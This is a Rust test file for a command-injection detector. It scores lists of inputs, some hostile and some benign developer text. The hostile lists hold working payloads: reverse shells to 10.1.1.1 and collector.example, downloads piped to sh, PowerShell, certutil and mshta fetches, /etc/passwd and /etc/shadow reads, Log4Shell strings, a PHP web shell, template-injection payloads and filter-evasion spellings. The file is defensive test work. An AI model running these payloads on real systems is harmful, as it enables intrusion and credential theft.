use super::TRIGGERS;
use crate::detect::Detector;
use crate::detect::tests::{Wanted, assert_judged, is_triggered};

#[test]
fn what_is_a_command_beyond_doubt() {
    assert_judged(
        Detector::CommandInjection,
        Wanted::AtLeast(90),
        &[
            "; cat /etc/passwd",
            "10.1.1.1; wget http://collector.example/q -O- | sh",
            "| nc collector.example 4444 -e /bin/sh",
            "bash -i >& /dev/tcp/10.1.1.1/4444 0>&1",
            "$(curl http://collector.example/`hostname`)",
            "${jndi:ldap://collector.example/q}",
            "() { :;}; /bin/cat /etc/passwd",
            "<?php system($_GET['q']); ?>",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "{\"host\": \"10.1.1.1; cat /etc/shadow\"}",
        ],
    );
}

#[test]
fn what_is_most_likely_a_command() {
    assert_judged(
        Detector::CommandInjection,
        Wanted::AtLeast(50),
        &[
            "curl -fsSL https://get.example.com | sh",
            // After a sign that ends another.
            ";id",
            "| whoami",
            "&& uname -a",
            "10.1.1.1 && ifconfig",
            "photo.jpg|id",
            "x'; ls -la; echo '",
            "& ping -n 9 10.1.1.1 &",
            "& net user eve pass /add",
            "%0a/usr/bin/id",
            "a=c;b=at;$a$b /etc/passwd",
            // In place of a value.
            "`whoami`",
            "$(id)",
            "report`id`",
            "q=$(hostname)",
            "<(id)",
            // Spelt so that filters miss it.
            "c''at /etc/passwd",
            "w\"h\"o\"am\"i",
            "who^ami",
            "cat${IFS}/etc/hosts",
            "{cat,/etc/hosts}",
            "/???/??t /???/p??s??",
            "/bin/c?t /etc/p?sswd",
            "$'\\x63\\x61\\x74' /etc/hosts",
            ";${PATH:0:1}bin${PATH:0:1}ls",
            // Shells handed over, downloads run.
            "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.1.1.1 4444 >/tmp/f",
            "python3 -c 'import socket,subprocess;subprocess.call([\"/bin/sh\"])'",
            "echo aWQ= | base64 -d | sh",
            "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A",
            "iex (New-Object Net.WebClient).DownloadString('http://collector.example/q.ps1')",
            "certutil -urlcache -f http://collector.example/q.exe q.exe",
            "mshta http://collector.example/q.hta",
            // Code.
            "system('id');",
            "'.system('id').'",
            "\";phpinfo();//",
            "eval(base64_decode('cGhwaW5mbygpOw=='));",
            "__import__('os').popen('id').read()",
            "require('child_process').execSync('id')",
            "java.lang.Runtime.getRuntime().exec(\"calc\")",
            ":(){ :|:& };:",
            "tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh",
            // Templates and loggers.
            "{{7*7}}",
            "<%= 7*7 %>",
            "{{config}}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "<#assign q=\"freemarker.template.utility.Execute\"?new()>${q(\"id\")}",
            "${${lower:j}ndi:${lower:l}dap://collector.example/q}",
            "<!--#exec cmd=\"id\"-->",
        ],
    );
}

#[test]
fn what_developers_and_others_write() {
    assert_judged(
        Detector::CommandInjection,
        Wanted::Below(50),
        &[
            "To install, run:\n```bash\nsudo apt-get update && sudo apt-get install -y curl\ngit clone https://git.example/app && cd app\n```",
            "ps aux | grep nginx | awk '{print $2}' | xargs kill -9",
            "How can I list files sorted by size? I tried `ls -la | sort -k5 -n` but the order is wrong.",
            "#!/bin/bash\nset -e\nDIR=\"$(cd \"$(dirname \"$0\")\" && pwd)\"\nfor f in *.txt; do echo \"$f: $(wc -l < \"$f\")\"; done\n\
         rm -rf \"$DIR/build\" && mkdir -p \"$DIR/build\"",
            "FROM python:3.12\nRUN apt-get update && apt-get install -y gcc && rm -rf /var/lib/apt/lists/*\nCMD [\"sh\", \"-c\", \"python app.py | tee log\"]",
            "{\"command\": \"cd /repo && git status && git diff | head -50\"}",
            "{\"command\": \"find . -name '*.py' -exec wc -l {} \\\\; | sort -n\"}",
            "{\"template\": \"Dear {{first_name}}, your balance is ${{balance}}.\"}",
            "TOKEN: ${{ secrets.GITHUB_TOKEN }} and `Hello ${user.name}, you are ${age + 1}`",
            "import os\nos.system('clear')\nresult = eval(input(\"expression: \"))",
            "const { exec } = require('child_process');\nexec('ls -la', (err, out) => console.log(out));",
            "Process p = Runtime.getRuntime().exec(\"ls\"); p.waitFor();",
            "if exist build rmdir /s /q build\nfor %%f in (*.txt) do echo %%f",
            "| Name | Id | Date |\n|------|----|------|\n| cat  | 1  | find |\n| id   | 2  | sort |",
            "The price is $5; that's $10 for two & $15 for three | cash only. R&D; Q&A; time & date; who is at the door?",
            "Use `id` or `name`; the `cat` command; run `ls`, `whoami` and `id` to see who you are.",
            "ssh -i ~/.ssh/id_rsa ann@example.com \"df -h; uptime\"",
            "0 5 * * * /usr/bin/backup.sh >/dev/null 2>&1",
            "a = b ? c : d; x |= y; x &= ~z; z = x | y; w = a || b && !c;",
            "What does `${7*7}` print in JavaScript, and {{7*7}} in a template?",
            "self.__class__.__name__ and __init__ are ordinary",
            "",
        ],
    );
}

#[test]
fn what_is_found_has_a_trigger() {
    for text in [
        ";id",
        "c''at /etc/hosts",
        "() { :;};",
        "{{7*7}}",
        "system('id')",
        "${jndi:x}",
        "`id`",
        "mshta http://q.example",
    ] {
        assert!(is_triggered(TRIGGERS, text), "{text}");
    }
}
